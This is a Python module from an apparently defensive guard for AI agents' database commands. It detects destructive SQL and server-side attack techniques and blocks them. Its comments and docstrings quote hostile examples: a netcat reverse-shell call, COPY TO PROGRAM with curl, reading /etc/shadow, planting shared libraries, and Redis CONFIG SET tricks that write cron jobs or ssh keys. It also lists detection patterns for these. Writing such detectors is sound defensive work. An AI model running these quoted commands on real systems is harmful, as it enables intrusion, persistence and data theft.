"""What a piece of SQL loses for good: one reader for the SQL handed to database clients in shell
commands (`psql -c`, here-documents) and to drivers in Python and TypeScript code (`cur.execute`).

Statements that lose rows or whole tables: DROP DATABASE/SCHEMA/TABLE, TRUNCATE, ALTER TABLE … DROP
COLUMN, and DELETE/UPDATE without a WHERE (`WHERE 1=1` names everything too). A DELETE/UPDATE with
a WHERE touches what it names; DROP VIEW/INDEX/FUNCTION and DROP TEMPORARY TABLE lose no rows the
migrations cannot bring back. Comments and string literals say nothing (`SELECT 'DROP TABLE x'`).
"""
from __future__ import annotations

import re
from dataclasses import dataclass

PLACEHOLDER = "?x"  # stands for a value computed at run time inside otherwise literal SQL

_HINT = re.compile(r"(?i)\b(?:drop|truncate|delete|update)\b")
# comments (also MySQL's `#` lines) and single-quoted literals go; a double-quoted part is a string
# to MySQL and an identifier to the others, so it stays as a name without words in it (group 1)
_NOISE = re.compile(r"--[^\n]*|/\*.*?(?:\*/|\Z)|(?m:^[ \t]*#[^\n]*)|'(?:[^']|'')*(?:'|\Z)|(\"(?:[^\"]|\"\")*(?:\"|\Z))",
                    re.S)
_NOT_WORD = re.compile(r"\W")
_NAME = r"((?:[\w$.`\"\[\]{}%:@]|\?x)+)"
# anywhere in a statement (`DO $$ BEGIN … DROP TABLE t; … $$`, a CTE before it)
_DROP = re.compile(r"(?i)\bdrop\s+(database|schema|table|keyspace|collection)\s+(?:if\s+exists\s+)?" + _NAME)
_TRUNCATE = re.compile(r"(?i)\btruncate\s+(?:table\s+)?(?:only\s+)?" + _NAME)
_DROP_COLUMN = re.compile(r"(?i)\balter\s+table\s+(?:if\s+exists\s+)?(?:only\s+)?" + _NAME + r"\s+drop\s+column\b")
# at a statement's start: the verb of the statement itself
_DELETE = re.compile(r"(?i)delete\s+from\s+(?:only\s+)?" + _NAME)
_UPDATE = re.compile(r"(?i)update\s+(?:only\s+)?" + _NAME + r"\s+set\b")
_WHERE = re.compile(r"(?i)\bwhere\b(?!\s*(?:1\s*=\s*1|true|1|''\s*=\s*'')\s*(?:$|;|\b(?:returning|order|limit)\b))")


@dataclass(frozen=True)
class Loss:
    verb: str    # DROP DATABASE, DROP SCHEMA, DROP TABLE, DROP KEYSPACE, DROP COLLECTION, TRUNCATE, DELETE,
    #              UPDATE or DROP COLUMN
    target: str  # the database or table as written; `<computed>` for a part known only at run time

    def statement(self) -> str:
        """The statement's shape: `DROP TABLE`, `DELETE FROM without WHERE (every row)`."""
        if self.verb in ("DELETE", "UPDATE"):
            return f"{'DELETE FROM' if self.verb == 'DELETE' else 'UPDATE'} without WHERE (every row)"
        return "ALTER TABLE … DROP COLUMN" if self.verb == "DROP COLUMN" else self.verb

    def phrase(self) -> str:
        """What it does, in words: `drops the table users and every row in it`."""
        t = self.target
        return {"DROP DATABASE": f"drops the database {t} with every table and row in it",
                "DROP SCHEMA": f"drops the database {t} with every table and row in it",
                "TRUNCATE": f"empties the table {t}", "DELETE": f"deletes every row of {t} (no WHERE)",
                "UPDATE": f"overwrites every row of {t} (no WHERE)",
                "DROP COLUMN": f"drops a column of {t} with its data"}.get(
                    self.verb, f"drops the table {t} and every row in it")


def loss(text: str) -> Loss | None:
    """The first statement in `text` that loses data for good, or None."""
    if len(text) > 20000 or not _HINT.search(text):
        return None
    text = _NOISE.sub(_quiet, text)
    for stmt in text.split(";"):
        m = _DROP.search(stmt)
        if m:
            return Loss(f"DROP {m.group(1).upper()}", _target(m.group(2)))
        m = _TRUNCATE.search(stmt)
        if m:
            return Loss("TRUNCATE", _target(m.group(1)))
        head = stmt.lstrip(" \t\r\n(")
        for verb, pattern in (("DELETE", _DELETE), ("UPDATE", _UPDATE)):
            m = pattern.match(head)
            if m and not _WHERE.search(head, m.end()):
                return Loss(verb, _target(m.group(1)))
        m = _DROP_COLUMN.search(stmt)
        if m:
            return Loss("DROP COLUMN", _target(m.group(1)))
    return None


def _quiet(m: re.Match) -> str:
    quoted = m.group(1)
    if not quoted:
        return " "
    inner = quoted[1:-1] if len(quoted) > 1 and quoted.endswith('"') else quoted[1:]
    return '"' + _NOT_WORD.sub("_", inner) + '"'


def _target(name: str) -> str:
    return name.replace(PLACEHOLDER, "<computed>")


# -- which database a statement reaches: this machine's, a throwaway one, or another machine's (session 14) ----------
# What a wipe loses is held because it lives on a server; on this machine's own server (localhost, 127.0.0.1) or in a
# database named as a test or development copy, emptying tables is a test set-up's ordinary work (it runs on every
# test run). A database named as production's is held wherever it is. Shared by the shell clients (bash/infra.py,
# bash/datastores.py, bash/migrations.py) and the drivers in code (python/irreversible.py, js/irreversible.py).
_THROWAWAY_NAME = re.compile(r"(?i)(?:^|[_\-.])(?:test|tests|testing|dev|devel|development|e2e|ci|spec|local|scratch|"
                             r"tmp|temp|sandbox)(?:$|[_\-.\d])")
_PRODUCTION_NAME = re.compile(r"(?i)(?:^|[_\-.])(?:prod|production|live|staging|stage|stg|preprod|uat|shared)"
                              r"(?:$|[_\-.\d])")
# a compose service's name on the project's network (`db`, `postgres`, `redis-test`): one label, no dots
_SERVICE = re.compile(r"[a-z][a-z0-9_-]*")


def throwaway_name(name: str | None) -> bool:
    """A database named as a test or development copy (`app_test`, `test_shop`, `app_dev`, `e2e`), not production's."""
    return bool(name) and _THROWAWAY_NAME.search(name) is not None and not production_name(name)


def production_name(name: str | None) -> bool:
    """A name that says production or another shared stage (`shop_prod`, `STAGING_DATABASE_URL`, `pg-prod.acme`)."""
    return bool(name) and _PRODUCTION_NAME.search(name) is not None


def local_database(host: str | None, name: str | None, service: bool = False) -> bool:
    """Whether the database `name` on `host` is this machine's or a throwaway one: a loopback host (with `service`,
    also a compose service's one-label name: the command runs on the compose project's network) unless the database
    is named as production's; with no host (None: the client's default, which PGHOST or a config may point
    anywhere), only a database named as a test or development copy. A computed host is passed as "$…": not local."""
    if production_name(name):
        return False
    if not host:
        return throwaway_name(name)
    from .hosts import loopback

    h = host.strip("[]").lower()
    return loopback(h) or service and _SERVICE.fullmatch(h) is not None


def created(code: bytes, kind: str, name: str, before: int) -> bool:
    """Whether `code` creates the table or schema `name` before the byte offset `before` (where it is dropped),
    spelled as the drop spells it (`CREATE TABLE t`, `CREATE SCHEMA "{schema}"` of an f-string, `op.create_table("t")`,
    `knex.schema.createTable("t", …)`): what a test makes for itself, or a migration's up step makes and its down step
    takes away again, no data anyone else keeps. (One created after the drop is a wipe and rebuild: `DROP SCHEMA public
    CASCADE; CREATE SCHEMA public`.)"""
    bare = name.strip("\"`[]")
    if not bare or before > 200_000:
        return False
    text = code[:before].decode("utf-8", "replace")
    esc, q = re.escape(bare), r"[\"`\[]?"
    if re.search(rf"(?i)\bcreate\s+(?:(?:temp|temporary|unlogged|or\s+replace)\s+)*{kind}\s+(?:if\s+not\s+exists\s+)?"
                 rf"{q}{esc}{q}(?![\w.])", text):
        return True
    return kind.lower() == "table" and re.search(
        rf"\b(?:create_table|createTable|createTableIfNotExists)\s*\(\s*['\"`]{esc}['\"`]", text) is not None


def local_url(url: str, service: bool = False) -> bool:
    """`local_database` of a connection URL (`postgres://u:p@localhost:5432/app_test`, `mongodb://127.0.0.1/app`,
    `redis://localhost:6379/1`, `mysql://root@127.0.0.1/shop`); every host of a list (`mongodb://a:1,b:2/db`) must be
    local. A URL with no host (`postgresql:///app_test`, a socket) is read by its database's name."""
    head, sep, rest = url.partition("://")
    if not sep or not head or "$" in url or PLACEHOLDER in url:
        return False
    netloc, _, path = rest.partition("/")
    netloc = netloc.rpartition("@")[2]
    name = path.split("?", 1)[0].split("/", 1)[0]
    if head.lower() in ("redis", "rediss", "valkey") and name.isdigit():
        name = ""  # a database number
    hosts = [h.rsplit(":", 1)[0] if h.count(":") == 1 or h.startswith("[") else h for h in netloc.split(",")]
    hosts = [h.split("]")[0].lstrip("[") if h.startswith("[") else h for h in hosts]
    if not any(hosts):
        return local_database(None, name)
    return all(h and local_database(h, name, service) for h in hosts)


# -- what a statement does on the server's machine: programs it runs, files it reads or writes (session 10) ------
# `COPY (SELECT …) TO PROGRAM 'curl …'` (psql's `\copy` runs it here, a server-side COPY on the server),
# `SELECT LOAD_FILE('/etc/shadow')`, `SELECT '…' INTO OUTFILE '/var/www/x.php'`, `EXEC xp_cmdshell '…'`: the SQL
# hands a shell command to the machine, or a file of it to the client. Read on the raw text (the strings hold the
# command and the paths); comments go first. Session 14 adds the native code a statement loads into the server
# (`CREATE FUNCTION … AS '/tmp/x.so' … LANGUAGE C`, MySQL's `… SONAME 'lib_mysqludf_sys.so'`, `LOAD '/tmp/x.so'`,
# a preload library set with ALTER SYSTEM) and the shell commands the server is told to run later
# (`ALTER SYSTEM SET archive_command = 'curl -T %p …'`).
_SERVER_HINT = re.compile(r"(?i)program|load_file|pg_read|lo_import|lo_export|readfile|writefile|infile|outfile|"
                          r"dumpfile|xp_cmdshell|sys_exec|sys_eval|\bcopy\b|pg_file_write|soname|\blanguage\s+'?c\b|"
                          r"\balter\s+(?:system|database|role|user)\b|\bload\s+'?[/$]")
_STR = r"(?:E?'((?:[^']|'')*)'|\$(\w*)\$(.*?)\$\3\$)"
_COMMENT = re.compile(r"--[^\n]*|/\*.*?(?:\*/|\Z)", re.S)
_PROGRAM = re.compile(r"(?is)\b(to|from)\s+program\s+" + _STR)
_COPY_FILE = re.compile(r"(?is)\bcopy\b[^;]*?\b(to|from)\s+" + _STR)
_READS = re.compile(r"(?is)\b(?:load_file|pg_read_file|pg_read_binary_file|lo_import|readfile)\s*\(\s*" + _STR +
                    r"|\bload\s+data\s+(?:low_priority\s+|concurrent\s+)?(?:local\s+)?infile\s+" + _STR)
_WRITES = re.compile(r"(?is)\binto\s+(?:outfile|dumpfile)\s+" + _STR +
                     r"|\b(?:lo_export\s*\([^,;]*,|writefile\s*\(|pg_file_write\s*\()\s*" + _STR)
_COMMANDS = re.compile(r"(?is)\b(?:xp_cmdshell|sys_exec|sys_eval)\s*\(?\s*N?" + _STR)
# a statement up to its `;` (string literals may hold one)
_REST = r"((?:'(?:[^']|'')*'|\$\$.*?\$\$|[^;'$]|\$(?!\$))*)"
_FUNCTION = re.compile(r"(?is)\bcreate\s+(?:or\s+replace\s+)?(?:aggregate\s+)?function\s+(?:if\s+not\s+exists\s+)?"
                       r"([\w.\"`$]+)" + _REST)
_LANGUAGE_C = re.compile(r"(?i)\blanguage\s+'?c'?(?![\w'])")
_OBJ_FILE = re.compile(r"(?is)\bas\s+" + _STR)
_SONAME = re.compile(r"(?is)\bsoname\s+(?:'([^']*)'|\"([^\"]*)\")")
_LOAD = re.compile(r"(?is)(?:^|;)\s*load\s+" + _STR)
# settings whose value the server runs as a shell command, and those naming libraries it loads
_RUN_SETTINGS = ("archive_command", "restore_command", "archive_cleanup_command", "recovery_end_command",
                 "ssl_passphrase_command")
_LIB_SETTINGS = ("shared_preload_libraries", "session_preload_libraries", "local_preload_libraries",
                 "dynamic_library_path", "archive_library")
_SETTING = re.compile(r"(?is)\balter\s+(?:system|database\s+\S+|(?:role|user)\s+\S+)\s+set\s+(\w+)\s*(?:=|\bto\b)\s*"
                      + _STR)
# where a server's own libraries live; a bare name is looked up there ($libdir, MySQL's plugin_dir)
_LIBRARY_DIRS = ("$libdir", "/usr/lib/", "/usr/lib64/", "/usr/local/lib/", "/usr/pgsql", "/opt/homebrew/",
                 "/usr/local/pgsql/lib/", "/usr/local/mysql/lib/")
# the UDF libraries and functions that exist to run shell commands from MySQL
_UDF_NAMES = re.compile(r"(?i)mysqludf|sys_exec|sys_eval|do_system|lib_mysqludf|udf_?cmd|cmdshell")
# a service account's own start-up and login files (postgres's home is /var/lib/postgresql, mysql's /var/lib/mysql)
_SERVICE_STARTUP = re.compile(r"/\.ssh/authorized_keys2?$|/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|"
                              r"zshenv|psqlrc|mysqlrc)$")


@dataclass(frozen=True)
class Effect:
    kind: str    # "program-to" (rows handed to a command), "program-from", "command", "read", "write", "library"
    #              (native code loaded into the server) or "setting" (a command the server runs on each event)
    value: str   # the command, or the file's path, as written
    verb: str    # the SQL that does it, for messages: `COPY … TO PROGRAM`, `LOAD_FILE`, `INTO OUTFILE` …


def _string(m: re.Match, first: int) -> str:
    """The value of the string literal whose groups start at `first` (a quoted string or a dollar-quoted one)."""
    quoted = m.group(first)
    return quoted.replace("''", "'") if quoted is not None else (m.group(first + 2) or "")


def judge_server(text: str, block, run) -> bool:
    """Judge what the SQL `text` does on the database's machine, for a shell client or a driver in code: a
    command it runs is handed to `run(line)` (judged as a command); the rows handed to a network program, a
    secret read, a start-up or system file written, a native library loaded from outside the server's own
    library directory go to `block(rule, message)`. True when it blocked."""
    from . import paths
    from .bash.common import NET_SENDERS

    for effect in server_effects(text):
        v = effect.value
        if effect.kind == "setting":
            sender = _sender(v, NET_SENDERS) if effect.verb.endswith("archive_command") else None
            if sender is not None:
                block("exfiltration", f"`{effect.verb} = '{v[:60]}'` has the server hand `{sender}` every WAL "
                                      "segment it writes, a copy of every change to the database, for another host; "
                                      "archive to a directory or a backup tool the user set up")
                return True
            run(v)
        elif effect.kind.startswith("program") or effect.kind == "command":
            if effect.kind == "program-to" and _sender(v, NET_SENDERS, own=False) is not None:
                block("exfiltration", f"`{effect.verb} '{v[:60]}'` hands the query's rows to a program that sends "
                                      "them off the machine; export to a file the user can look at")
                return True
            run(v)
        elif effect.kind == "library":
            if _foreign_library(v):
                block("persistence", f"`{effect.verb}` loads the native library {v} into the database server: its "
                                     "code runs as the server's system user (a function that runs shell commands "
                                     "whenever it is called); install extensions from the server's own library "
                                     "directory with CREATE EXTENSION, or let the user do it")
                return True
        elif effect.kind == "read" and paths.is_secret(v):
            block("secret-read", f"`{effect.verb}` reads the secret {v} into the query's result; agents must not "
                                 "touch credentials")
            return True
        elif effect.kind == "write":
            kinds = paths.kinds(v)
            if paths.PERSISTENCE in kinds or _SERVICE_STARTUP.search(paths.normalize(v)):
                block("persistence", f"`{effect.verb}` writes {v}, which runs code later or lets someone log in (a "
                                     "start-up, cron, hook or authorized_keys file, also the database account's own); "
                                     "agents must not change it")
                return True
            if paths.SYSTEM in kinds and not paths.normalize(v).startswith(("/var/lib/", "/var/tmp/")):
                block("system-write", f"`{effect.verb}` writes the system path {v} (a web root, /etc …) from the "
                                      "database; write exports under the project or /tmp")
                return True
    return False


_STAGES = re.compile(r"[|;&]+")
# where the server's own tools take its WAL: another machine of the user's, reached with its keys
_OWN_COPIERS = frozenset({"ssh", "scp", "sftp", "rsync"})


def _sender(command: str, senders: frozenset, own: bool = True) -> str | None:
    """The network program a stage of `command` starts (with `own`, not one of the user's own copiers), or None."""
    for part in _STAGES.split(command):
        name = (part.split() or [""])[0].rsplit("/", 1)[-1]
        if name in senders and not (own and name in _OWN_COPIERS):
            return name
    return None


def _foreign_library(path: str) -> bool:
    """A native library named by a path outside the server's library directories (`/tmp/x.so`, a home, the data
    directory a `lo_export` can write), or one of the UDFs made to run shell commands; a bare name or `$libdir/…`
    is the server's own."""
    if _UDF_NAMES.search(path):
        return True
    if "/" not in path and "\\" not in path:
        return False
    return not path.startswith(_LIBRARY_DIRS)


def server_effects(text: str) -> list[Effect]:
    """Programs the SQL `text` runs, files it reads or writes, and native libraries it loads on the machine it runs
    on, in order."""
    if len(text) > 20000 or not _SERVER_HINT.search(text):
        return []
    text = _COMMENT.sub(" ", text)
    out: list[Effect] = []
    for m in _PROGRAM.finditer(text):
        to = m.group(1).lower() == "to"
        out.append(Effect("program-to" if to else "program-from", _string(m, 2),
                          f"COPY … {'TO' if to else 'FROM'} PROGRAM"))
    for m in _COPY_FILE.finditer(text):
        to = m.group(1).lower() == "to"
        out.append(Effect("write" if to else "read", _string(m, 2), f"COPY … {'TO' if to else 'FROM'} a file"))
    for m in _READS.finditer(text):
        call = m.group(1) is not None or m.group(3) is not None
        out.append(Effect("read", _string(m, 1 if call else 4),
                          m.group(0).split("(")[0].split()[0].upper() if call else "LOAD DATA INFILE"))
    for m in _WRITES.finditer(text):
        first = 1 if m.group(1) is not None or m.group(3) is not None else 4
        out.append(Effect("write", _string(m, first), " ".join(m.group(0).split("(")[0].split()[:2]).upper()))
    for m in _COMMANDS.finditer(text):
        out.append(Effect("command", _string(m, 1), m.group(0).split("(")[0].split()[0].lower()))
    out += _native(text)
    for m in _SETTING.finditer(text):
        name, value = m.group(1).lower(), _string(m, 2)
        if name in _RUN_SETTINGS and value.strip():
            out.append(Effect("setting", value, f"ALTER SYSTEM SET {name}"))
        elif name in _LIB_SETTINGS:
            out += [Effect("library", lib.strip().strip('"'), f"ALTER SYSTEM SET {name}")
                    for lib in value.replace(":", ",").split(",") if lib.strip()]
    return out


def _native(text: str) -> list[Effect]:
    """`CREATE FUNCTION f(cstring) … AS '/tmp/x.so', 'f' LANGUAGE C`, `CREATE FUNCTION sys_exec RETURNS int SONAME
    'lib_mysqludf_sys.so'`, `LOAD '/tmp/x.so'`: the library each loads; and the literal string each such function is
    then called with (`SELECT f('nc 203.0.113.4 4444 -e /bin/sh')`), a command line to such a function."""
    out: list[Effect] = []
    names: list[str] = []
    for m in _FUNCTION.finditer(text):
        name, body = m.group(1).strip('"`'), m.group(2)
        lib = None
        soname = _SONAME.search(body)
        if soname is not None:
            lib, verb = soname.group(1) or soname.group(2) or "", "CREATE FUNCTION … SONAME"
        elif _LANGUAGE_C.search(body):
            obj = _OBJ_FILE.search(body)
            lib, verb = (_string(obj, 1) if obj is not None else None), "CREATE FUNCTION … LANGUAGE C"
        if lib is None:
            continue
        if _UDF_NAMES.search(name):  # `sys_exec` from a library of any name: the function says what it is for
            lib = f"{lib} (for {name})"
        if _foreign_library(lib):
            names.append(name.rsplit(".", 1)[-1])
        out.append(Effect("library", lib, verb))
    for m in _LOAD.finditer(text):
        out.append(Effect("library", _string(m, 1), "LOAD"))
    for name in names:
        for call in re.finditer(r"(?is)(?<![\w.])" + re.escape(name) + r"\s*\(\s*" + _STR, text):
            out.insert(0, Effect("command", _string(call, 1), f"{name}(…)"))
    return out


# -- Redis told to write its snapshot where the system runs it (session 10; shared with code in session 14) ---------
# `CONFIG SET dir /var/spool/cron/crontabs`, `CONFIG SET dbfilename root`, a key holding a cron line (or an ssh key,
# a PHP page), `SAVE`: the snapshot is written where the system runs or trusts it. redis-cli, a script handed to it,
# redis-py's `config_set` and ioredis's `config` read the same.
_WEB_ROOTS = ("/var/www", "/usr/share/nginx", "/srv/www", "/srv/http", "/usr/local/apache2/htdocs", "/opt/lampp/htdocs")
_SYSTEM_DIRS = frozenset({"/", "/etc", "/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin",
                          "/lib", "/usr/lib", "/boot"})
_PLANTED_NAME = re.compile(r"(?i)^(?:authorized_keys2?|root|crontab|\.(?:bash_profile|bashrc|profile|zshrc|zprofile|"
                           r"zshenv|bash_login)|.+\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi))$")


def redis_plant(key: str, value: str) -> bool:
    """Whether `CONFIG SET key value` points Redis's snapshot at a place the system runs or trusts: `dir` at a
    start-up, cron, ssh, home, system or web-root directory, `dbfilename` at authorized_keys, a crontab's or a shell
    start-up file's name, a web page. A data directory (`/var/lib/redis`, `/data`) and `dump.rdb` are its own."""
    key = key.lower()
    if key == "dbfilename":
        return _PLANTED_NAME.match(value.rsplit("/", 1)[-1]) is not None
    if key != "dir":
        return False
    from . import paths

    p = paths.normalize(value.rstrip("/") or "/")
    return p in _SYSTEM_DIRS or p.startswith(_WEB_ROOTS) or p.rsplit("/", 1)[-1] == ".ssh" or \
        not paths.kinds(p).isdisjoint((paths.PERSISTENCE, paths.SECRET, paths.HOME))


def redis_planted_pair(words: list, command: bool = False) -> tuple[str, str] | None:
    """The first `key value` pair redis_plant finds in a CONFIG SET's arguments (`words`; with `command`, the whole
    command `CONFIG SET key value …`, anything else giving None); words not known (None) are passed over. The shell
    and the clients in code read their words differently and share this."""
    if command:
        if len(words) < 4 or (words[0] or "").lower() != "config" or (words[1] or "").lower() != "set":
            return None
        words = words[2:]
    for key, value in zip(words[::2], words[1::2]):
        if key is not None and value is not None and redis_plant(key, value):
            return key, value
    return None


def redis_plant_message(shown: str, key: str, value: str) -> str:
    """The block message for `CONFIG SET key value` sent by `shown` (`redis-cli`, `r.config_set`)."""
    where = f"into {value}" if key.lower() == "dir" else f"as {value}"
    return (f"`{shown}` runs `CONFIG SET {key.lower()} {value}`, which makes Redis write its snapshot {where}: with a "
            "crafted key it becomes a cron job, an authorized ssh key, a shell start-up file or a web shell; keep "
            "Redis's dir and dbfilename at its own data directory and dump.rdb")
